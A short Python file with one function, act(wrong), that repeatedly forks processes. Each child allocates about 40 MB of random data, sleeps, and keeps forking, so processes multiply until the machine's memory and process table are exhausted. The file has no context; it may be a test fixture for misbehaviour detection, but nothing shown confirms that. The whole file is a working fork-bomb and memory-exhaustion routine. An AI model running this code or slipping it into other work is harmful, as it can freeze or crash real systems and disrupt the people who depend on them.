import os
import time


def act(wrong):
    for _ in range(12):
        if os.fork() == 0:
            held = bytearray(os.urandom(1 << 20) * 40)
            time.sleep(30 + len(held) * 0)
    time.sleep(30)
